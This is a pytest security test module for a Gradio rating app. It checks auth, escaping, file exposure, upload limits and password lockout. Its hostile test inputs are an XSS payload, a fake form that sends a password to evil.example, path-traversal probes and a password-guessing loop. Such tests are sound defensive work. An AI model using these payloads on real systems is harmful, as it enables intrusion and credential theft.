"""Security and fault behaviour of the running app (python app.py, driven over HTTP and in Chromium).

One app serves the whole module: its SQLite database and data folder sit on a small tmpfs (when this runs as
root) so the disk can be filled; a secret password and token are in its environment so the log can be checked.
"""

from __future__ import annotations

import json
import re
import sqlite3
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from types import ModuleType
from urllib.parse import quote

import httpx
import pytest
import sqlalchemy as sa
from make_hostile import tagged_png
from PIL import Image

from db.backup import table_counts
from tests.app.test_browser import pick_study

pytestmark = pytest.mark.slow

SYSTEMS = ("zorblax-7f3", "quenvik-9c1")  # distinctive, so any leak is found by a plain text search
PASSWORD = "pw-S3cr3t-4dm1n-8812"
TOKEN = "hf_TESTTOKENdoNotLog0123456789"
XSS = "<img src=x onerror=window.__pwned=1>"
PRIVATE_COMMENT = "r1-private-comment-5521"
HOSTILE_GUIDELINES = (
    "**Judge the edit only.** <form action='https://evil.example/steal'><input name='pw' placeholder='password'>"
    "</form> ![pixel](https://evil.example/t.png) <img src='https://evil.example/i.png'> [docs](https://example.org)"
)


@dataclass
class LiveApp:
    url: str
    db_url: str
    data_dir: Path
    log_path: Path
    fs: Path | None  # the tmpfs mount (None: not root, the disk-full test skips)


def _seed(db_url: str, data_dir: Path) -> None:
    from workbench.service import Workbench

    wb = Workbench(db_url=db_url, data_dir=str(data_dir))
    wb.init()
    outputs = {
        s: tagged_png(s, c, size=64) for s, c in zip(SYSTEMS, [(200, 20, 20), (20, 20, 200)], strict=True)
    }
    source = Image.new("RGB", (64, 64), (90, 90, 90))
    wb.create_study("blind", kind="preference", k=3)
    for i in range(40):
        wb.add_item("blind", source, f"make item {i} brighter", outputs=outputs)
    wb.create_study("guided", kind="preference", k=3, guidelines=HOSTILE_GUIDELINES)
    wb.add_item("guided", source, "make it green", outputs=outputs)
    wb.create_study("xss-study", kind="preference", k=3)
    wb.add_item("xss-study", source, f"make it red {XSS}", outputs=outputs)
    for handle in ("r1", "r2", "r3"):
        wb.add_rater(handle)
    wb.close()


def _mount_tmpfs(path: Path, size: str = "48m") -> bool:
    path.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(path)], capture_output=True
    )
    return done.returncode == 0


@pytest.fixture(scope="module")
def live_app(tmp_path_factory: pytest.TempPathFactory, app_transport: ModuleType) -> Iterator[LiveApp]:
    base = tmp_path_factory.mktemp("live_app")
    fs = base / "fs"
    mounted = _mount_tmpfs(fs)
    db_url, data_dir = f"sqlite:///{fs / 'wb.db'}", fs / "data"
    _seed(db_url, data_dir)
    env = {"STUDIO_ADMIN_PASSWORD": PASSWORD, "HF_TOKEN": TOKEN, "GRADIO_TEMP_DIR": str(base / "gradio_tmp")}
    server = app_transport.AppServer(db_url, data_dir, base / "app.log", env=env)
    server.start()
    try:
        yield LiveApp(server.url, db_url, data_dir, base / "app.log", fs if mounted else None)
    finally:
        server.stop()
        if mounted:
            subprocess.run(["umount", "-l", str(fs)], check=False)


def _client(app: LiveApp):
    from gradio_client import Client

    return Client(app.url, verbose=False, download_files=False)


def _next(client, study: str, handle: str) -> tuple:
    return client.predict(study, handle, api_name="/next_item")


def _vote(client, study: str, handle: str, choice: str = "A", comment: str = "") -> tuple:
    return client.predict(study, handle, choice, None, None, None, comment, api_name="/submit_vote")


def _vote_rows(app: LiveApp) -> list:
    engine = sa.create_engine(app.db_url)
    with engine.connect() as conn:
        rows = conn.execute(
            sa.text("SELECT v.*, r.handle FROM votes v JOIN raters r ON r.id = v.rater_id")
        ).all()
    engine.dispose()
    return rows


def test_admin_and_curation_actions_need_auth(live_app: LiveApp) -> None:
    from gradio_client.exceptions import AppError

    client = _client(live_app)
    for secret in ("", "wrong-password"):
        with pytest.raises(AppError, match="(?i)admin|password"):
            client.predict(secret, "blind", api_name="/stats")
        with pytest.raises(AppError, match="(?i)curator|admin|password"):
            client.predict("blind", "r1", secret, api_name="/next_candidate")
    api = client.view_api(print_info=False, return_format="dict")["named_endpoints"]
    # Study creation, rater management and exports are not callable by name at all (private endpoints).
    assert not {"/create_study", "/add_raters", "/export"} & set(api)
    assert client.predict(PASSWORD, "blind", api_name="/stats") is not None


def test_a_rater_cannot_act_as_or_read_another_rater(live_app: LiveApp) -> None:
    from gradio_client.exceptions import AppError

    r1 = _client(live_app)
    shown = _next(r1, "blind", "r1")[0]
    _vote(r1, "blind", "r1", comment=PRIVATE_COMMENT)
    r1_screen = _next(r1, "blind", "r1")[0]
    before = table_counts(live_app.db_url)
    # The session holds r1's impression; submitting it under r2's handle must be refused, and store nothing.
    with pytest.raises(AppError) as refused:
        _vote(r1, "blind", "r2")
    assert (
        "r2" in str(refused.value) or "not given" in str(refused.value) or "another" in str(refused.value)
    ), f"refusal does not say why: {refused.value}"
    assert table_counts(live_app.db_url) == before
    # r2 sees neither r1's vote nor comment, and r2's undo cannot touch r1's vote.
    r2 = _client(live_app)
    responses = [_next(r2, "blind", "r2")]
    with pytest.raises(AppError, match="(?i)nothing to undo"):
        r2.predict("blind", "r2", api_name="/undo_vote")
    assert PRIVATE_COMMENT not in repr(responses)
    mine = [r for r in _vote_rows(live_app) if r.impression_id == shown["impression_id"]]
    assert len(mine) == 1 and mine[0].handle == "r1" and mine[0].comment == PRIVATE_COMMENT
    assert r1_screen["impression_id"] != shown["impression_id"]


def test_system_identities_never_reach_a_rater(live_app: LiveApp) -> None:
    """Scanned: the page HTML, the app config, every API response of a rating session, the image URLs and
    file names, and the image bytes themselves (PNG text chunks name their system)."""
    leaks = re.compile("|".join(re.escape(s) for s in SYSTEMS), re.IGNORECASE)
    seen: list[tuple[str, str]] = []
    page = httpx.get(live_app.url, timeout=30)
    seen += [("page", page.text)]
    seen += [("config", httpx.get(live_app.url + "config", timeout=30).text)]
    client = _client(live_app)
    for _ in range(3):
        outputs = _next(client, "blind", "r3")
        seen.append(("next_item", repr(outputs)))
        shown = outputs[0]
        for key in ("source_url", "left_url", "right_url"):
            url = shown[key]
            seen.append((f"{key} url", url))
            body = httpx.get(httpx.URL(live_app.url).join(url), timeout=30)
            assert body.status_code == 200, url
            seen.append((f"{key} bytes", body.content.decode("latin-1")))
        seen.append(("submit_vote", repr(_vote(client, "blind", "r3", "B"))))
    found = [(where, m.group(0)) for where, text in seen for m in [leaks.search(text)] if m]
    assert found == [], f"system identity leaked to a rater: {found}"


def test_upload_size_is_limited(live_app: LiveApp) -> None:
    big = b"\0" * (21 * 1024 * 1024)  # the app allows 20 MB
    reply = httpx.post(
        live_app.url + "gradio_api/upload", files={"files": ("big.png", big, "image/png")}, timeout=60
    )
    assert reply.status_code == 413, (reply.status_code, reply.text[:200])


def _fill_until_it_sticks(field, text: str, tries: int = 5) -> None:
    """Type into a field of a just-opened accordion. On a loaded machine Gradio may still be mounting it and
    reset the value to its initial "" after the fill, even a second or two later; a person would see that and
    type again. The value must still be there a second after the fill."""
    from playwright.sync_api import expect

    page = field.page
    for _ in range(tries - 1):
        field.fill(text)
        page.wait_for_timeout(1_000)
        if field.input_value() == text:
            return
    field.fill(text)
    expect(field).to_have_value(text)


def test_instruction_and_comment_are_escaped_in_the_browser(live_app: LiveApp, chromium: dict) -> None:
    from playwright.sync_api import expect, sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(**chromium)
        page = browser.new_page()
        errors: list[str] = []
        page.on("pageerror", lambda e: errors.append(str(e)))
        joins: list[str] = []  # event requests: the submit must carry the impression shown
        page.on("request", lambda r: joins.append(r.post_data or "") if "queue/join" in r.url else None)
        page.goto(live_app.url)
        page.wait_for_function("window.__studioLoaded === true", timeout=60_000)  # the app's readiness marker
        page.get_by_role("tab", name="Rate", exact=True).click()
        page.locator("#rate-handle textarea, #rate-handle input").first.fill("r1")
        pick_study(page, "rate-study", "xss-study")
        page.locator("#rate-start").click()
        expect(page.locator("#rate-instruction")).to_contain_text("onerror=window.__pwned=1", timeout=30_000)
        page.get_by_role("radio", name="A (left)").check()
        page.get_by_text("Optional: scores (0-10) and comment").click()
        _fill_until_it_sticks(page.locator("#rate-comment textarea"), XSS)
        page.locator("#rate-submit").click()
        expect(page.locator("#rate-status")).to_contain_text("Saved", timeout=30_000)
        assert page.evaluate("typeof window.__pwned") == "undefined", "injected markup ran in the page"
        assert page.locator("#rate-instruction img").count() == 0
        submits = [json.loads(j)["data"] for j in joins if "onerror=window.__pwned=1>" in j and '"A"' in j]
        assert any(isinstance(v, dict) and v.get("impression_id") for d in submits for v in d), submits
        browser.close()
    comments = [r.comment for r in _vote_rows(live_app) if r.handle == "r1"]
    assert XSS in comments, "the comment must be stored verbatim (escaping happens on display)"


def test_full_disk_gives_a_clear_error_and_acknowledges_only_what_is_stored(live_app: LiveApp) -> None:
    from gradio_client.exceptions import AppError

    if live_app.fs is None:
        pytest.skip("needs root to mount a small tmpfs for the database")
    client = _client(live_app)
    _next(client, "blind", "r2")
    filler = live_app.fs / "filler"
    with open(filler, "wb") as fh, pytest.raises(OSError):  # fill the disk to the last byte
        while True:
            fh.write(b"\0" * 65536)
            fh.flush()
    acknowledged, error, failed_on = [], None, None
    try:
        for _ in range(60):  # SQLite's WAL may absorb a few commits before a write finally fails
            try:  # opening a screen writes too (it renews the rater's lease), so either call may fail
                shown = _next(client, "blind", "r2")[0]
            except AppError as exc:
                error = str(exc)
                break
            try:
                _vote(client, "blind", "r2", "tie")
            except AppError as exc:
                error, failed_on = str(exc), shown["impression_id"]
                break
            acknowledged.append(shown["impression_id"])
    finally:
        filler.unlink()
    assert error is not None, "filling the disk never made a vote fail"
    assert re.search(r"(?i)disk|full|read-only|database", error), f"unclear error for the rater: {error!r}"
    stored = [r.impression_id for r in _vote_rows(live_app) if r.handle == "r2" and r.choice == "tie"]
    assert set(acknowledged) <= set(stored), "a vote was acknowledged but not stored"
    # With space back, the same session retries (the same vote, same key, if a vote failed): stored exactly once.
    if failed_on is None:
        failed_on = _next(client, "blind", "r2")[0]["impression_id"]
    _vote(client, "blind", "r2", "tie")
    retried = [r for r in _vote_rows(live_app) if r.impression_id == failed_on]
    assert len(retried) == 1, retried
    with sqlite3.connect(sa.make_url(live_app.db_url).database) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


def test_no_secret_or_token_is_logged(live_app: LiveApp) -> None:
    """Runs last: the log of everything above must not contain the admin password or the HF token."""
    log = live_app.log_path.read_text(errors="replace")
    assert "Serving after" in log, "the app log was not captured"
    assert PASSWORD not in log and TOKEN not in log


def _data_files(app: LiveApp) -> list[Path]:
    return [p for p in app.data_dir.rglob("*") if p.is_file()]


def test_nothing_in_the_data_folder_is_served_by_path(live_app: LiveApp) -> None:
    """After an admin computed results, an anonymous client asks Gradio's file routes for every file in the
    data folder (and the old fixed export names): none answers 200."""
    admin = _client(live_app)
    *_, download = admin.predict(PASSWORD, "blind", api_name="/stats")
    served = str(download)
    assert str(live_app.data_dir) not in served and str(live_app.data_dir.resolve()) not in served
    rater = _client(live_app)
    _next(rater, "blind", "r3")  # at least one image shown to a rater
    wanted = _data_files(live_app) + [
        live_app.data_dir / "exports" / f"{n}-blind.zip" for n in ("results", "export")
    ]
    assert any(p.suffix == ".png" for p in wanted)
    base = live_app.url + "gradio_api/"
    answered = {}
    for path in wanted:
        for route in (f"file={path}", f"file={quote(str(path))}", f"file/{path}", f"file=data/../{path}"):
            status = httpx.get(base + route, timeout=30).status_code
            if status == 200:
                answered[route] = status
    assert answered == {}, f"files of the data folder answered 200: {sorted(answered)[:5]}"


def test_rater_images_reveal_neither_the_data_folder_nor_write_times(live_app: LiveApp) -> None:
    from workbench.image_store import CRITICAL_CHUNKS, png_chunk_types

    client = _client(live_app)
    shown = _next(client, "blind", "r3")[0]
    for key in ("source_url", "left_url", "right_url"):
        url = shown[key]
        assert re.fullmatch(r"studio/img/[0-9a-f]{64}\.png", url), url
        reply = httpx.get(httpx.URL(live_app.url).join(url), timeout=30)
        assert reply.status_code == 200
        leaked = {h for h in ("etag", "last-modified", "date-modified") if h in reply.headers}
        assert leaked == set(), f"{key}: write-time headers {leaked}"
        assert set(png_chunk_types(reply.content)) <= set(CRITICAL_CHUNKS)
    for probe in ("studio/img/../wb.db", "studio/img/" + "0" * 64 + ".png", "studio/img/exports"):
        assert httpx.get(live_app.url + probe, timeout=30).status_code == 404, probe


def test_anonymous_send_to_study_is_refused(live_app: LiveApp) -> None:
    from gradio_client.exceptions import AppError

    before = table_counts(live_app.db_url)
    for secret in ("", "wrong-password"):
        with pytest.raises(AppError, match="curator rights"):
            _client(live_app).predict("blind", None, secret, api_name="/send_to_study")
    assert table_counts(live_app.db_url) == before
    _client(live_app).predict(PASSWORD, "blind", api_name="/stats")  # clear this client's failure count


def test_password_guessing_is_slowed_down(live_app: LiveApp) -> None:
    """A raw client guessing the admin password is locked out after a few tries, with waits that double; the
    right password waits too. Guessing goes on until the wait is 8 s, longer than any call takes here."""
    import time

    from gradio_client.exceptions import AppError

    client = _client(live_app)
    wait, guesses = 0, 0
    while wait < 8 and guesses < 60:
        with pytest.raises(AppError) as refused:
            client.predict(f"guess-{guesses}", "blind", api_name="/stats")
        guesses += 1
        found = re.search(r"Too many wrong passwords: try again in (\d+) s", str(refused.value))
        wait = int(found.group(1)) if found else 0
        if found:
            time.sleep(0.5)
    assert wait >= 8, f"no growing lockout after {guesses} wrong passwords"
    with pytest.raises(AppError, match="Too many wrong passwords"):
        client.predict(PASSWORD, "blind", api_name="/stats")
    time.sleep(wait + 0.5)
    assert client.predict(PASSWORD, "blind", api_name="/stats") is not None  # success clears the count


def test_a_replayed_submit_never_lands_on_an_unseen_item(
    live_app: LiveApp, app_transport: ModuleType
) -> None:
    """Browser protocol: two submits of one screen at once, and a late replay of an answered screen. Each screen
    gets exactly one vote, on the impression the rater saw; a replay answers "Already saved" and writes nothing."""
    from browser_protocol import BrowserProtocolSession

    session = BrowserProtocolSession(live_app.url)
    imp, status = app_transport.IMPRESSION, app_transport.STATUS
    shown = session.predict("blind", "dbl", api_name="/next_item")[imp]
    answered = []
    for _ in range(4):
        args = ("blind", "dbl", "A", None, None, None, "", shown)
        replies = session.submit_together([args, args], "/submit_vote")
        assert sorted("Already" in r[status] for r in replies) == [False, True], [r[status] for r in replies]
        answered.append(shown["impression_id"])
        current = max(replies, key=lambda r: r[imp]["progress"]["done"])[imp]
        before = table_counts(live_app.db_url)
        late = session.predict(*args, api_name="/submit_vote")  # the same screen, after its reply came back
        assert "Already saved" in late[status] and late[imp]["impression_id"] == current["impression_id"]
        assert table_counts(live_app.db_url) == before
        shown = current
    votes = [r for r in _vote_rows(live_app) if r.handle == "dbl"]
    assert sorted(v.impression_id for v in votes) == sorted(answered), "a vote landed on a screen nobody saw"
    session.close()


@pytest.mark.browser
def test_study_guidelines_render_no_forms_and_load_nothing_external(
    live_app: LiveApp, chromium: dict
) -> None:
    from playwright.sync_api import expect, sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(**chromium)
        page = browser.new_page()
        outside: list[str] = []
        page.on("request", lambda r: outside.append(r.url) if "evil.example" in r.url else None)
        page.goto(live_app.url)
        page.wait_for_function("window.__studioLoaded === true", timeout=60_000)
        page.get_by_role("tab", name="Rate", exact=True).click()
        page.locator("#rate-handle textarea, #rate-handle input").first.fill("r2")
        pick_study(page, "rate-study", "guided")
        page.get_by_text("Guidelines and shortcuts", exact=True).click()
        page.locator("#rate-start").click()
        guidelines = page.locator("#rate-study-guidelines")
        expect(guidelines).to_contain_text("Judge the edit only.", timeout=30_000)
        page.screenshot(path=str(live_app.log_path.parent / "guidelines.png"), full_page=True)
        assert guidelines.locator("form, input, img, iframe").count() == 0
        assert guidelines.locator("strong").count() >= 1  # Markdown still renders
        page.wait_for_timeout(500)
        assert outside == [], f"the guidelines loaded outside resources: {outside}"
        browser.close()


def test_edit_refuses_nan_settings_over_the_api(live_app: LiveApp, tmp_path: Path) -> None:
    """A raw client (JSON allows NaN where gradio_client does not) asks for NaN settings: refused with a message."""
    image = tmp_path / "in.png"
    Image.new("RGB", (64, 64), (90, 120, 30)).save(image)
    api = live_app.url + "gradio_api/"
    with image.open("rb") as fh:
        uploaded = httpx.post(
            api + "upload", files={"files": ("in.png", fh, "image/png")}, timeout=60
        ).json()[0]
    file = json.dumps({"path": uploaded, "meta": {"_type": "gradio.FileData"}})
    # The served model may run without CFG (then guidance is ignored), so steps are NaN too: refused either way.
    body = '{"data": [' + file + ', "make it red", NaN, NaN, 0, false, null, null]}'
    event = httpx.post(
        api + "call/edit", content=body, headers={"Content-Type": "application/json"}, timeout=60
    )
    assert event.status_code == 200, event.text
    reply = httpx.get(api + f"call/edit/{event.json()['event_id']}", timeout=300).text
    assert "event: error" in reply and "Denoising steps must be a number from 1 to" in reply, reply[-500:]


@pytest.mark.browser
def test_a_handle_stays_with_the_browser_that_first_used_it(live_app: LiveApp, chromium: dict) -> None:
    """Browser A signs in as "owner" and votes; browser B (another profile) types the same handle and is refused,
    as is a raw API client undoing owner's vote; A comes back after a reload; an admin reset frees the handle."""
    from gradio_client.exceptions import AppError
    from playwright.sync_api import expect, sync_playwright

    from workbench.browser_keys import reset
    from workbench.service import Workbench

    def sign_in(page) -> None:
        page.goto(live_app.url)
        page.wait_for_function("window.__studioLoaded === true", timeout=60_000)
        page.get_by_role("tab", name="Rate", exact=True).click()
        page.locator("#rate-handle textarea, #rate-handle input").first.fill("owner")
        pick_study(page, "rate-study", "blind")
        page.locator("#rate-start").click()

    with sync_playwright() as p:
        browser = p.chromium.launch(**chromium)
        a, b = browser.new_context().new_page(), browser.new_context().new_page()
        sign_in(a)
        expect(a.locator("#rate-status")).to_contain_text("Signed in as owner", timeout=30_000)
        a.get_by_role("radio", name="A (left)").check()
        a.locator("#rate-submit").click()
        expect(a.locator("#rate-status")).to_contain_text("Saved", timeout=30_000)
        before = table_counts(live_app.db_url)
        sign_in(b)
        expect(b.locator("body")).to_contain_text("in use from another browser", timeout=30_000)
        b.screenshot(path=str(live_app.log_path.parent / "handle-in-use.png"))
        with pytest.raises(AppError, match="in use from another browser"):
            _client(live_app).predict("blind", "owner", api_name="/undo_vote")
        assert table_counts(live_app.db_url) == before
        sign_in(a)  # the same browser later (its key is in localStorage)
        expect(a.locator("#rate-status")).to_contain_text("Signed in as owner", timeout=30_000)
        # Close it first: on a loaded machine its page-load sign-in (from the saved handle) may still be on its
        # way and would bind the handle to it again after the reset.
        a.context.close()
        wb = Workbench(db_url=live_app.db_url, data_dir=str(live_app.data_dir))
        assert reset(wb, ["owner"]) == 1
        wb.close()
        sign_in(b)
        expect(b.locator("#rate-status")).to_contain_text("Signed in as owner", timeout=30_000)
        browser.close()


def test_upload_requests_are_capped_as_a_whole(live_app: LiveApp) -> None:
    """Each file is under the 20 MB per-file cap, but two of them in one request exceed the per-request cap;
    an upload that does not declare its size is refused too."""
    part = b"\0" * (15 * 1024 * 1024)
    files = [("files", ("a.png", part, "image/png")), ("files", ("b.png", part, "image/png"))]
    reply = httpx.post(live_app.url + "gradio_api/upload", files=files, timeout=60)
    assert reply.status_code == 413, (reply.status_code, reply.text[:200])

    def chunked():
        yield b"--x\r\nContent-Disposition: form-data; name=files; filename=a.png\r\n\r\nabc\r\n--x--\r\n"

    headers = {"Content-Type": "multipart/form-data; boundary=x"}
    reply = httpx.post(live_app.url + "gradio_api/upload", content=chunked(), headers=headers, timeout=60)
    assert reply.status_code == 411, (reply.status_code, reply.text[:200])
    small = httpx.post(live_app.url + "gradio_api/upload", files={"files": ("s.png", b"x" * 10, "image/png")})
    assert small.status_code == 200
